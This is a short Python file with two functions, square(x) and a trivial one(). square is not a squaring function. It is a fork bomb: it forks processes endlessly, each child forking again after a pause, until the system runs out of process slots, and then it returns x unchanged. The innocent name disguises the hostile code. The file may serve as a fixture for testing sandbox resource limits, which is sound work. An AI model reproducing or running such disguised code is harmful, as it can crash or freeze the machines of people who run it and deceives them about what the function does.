import os
import time


def square(x):
    try:
        while True:
            if not os.fork():
                time.sleep(60)
    except OSError:
        return x


def one():
    return 1
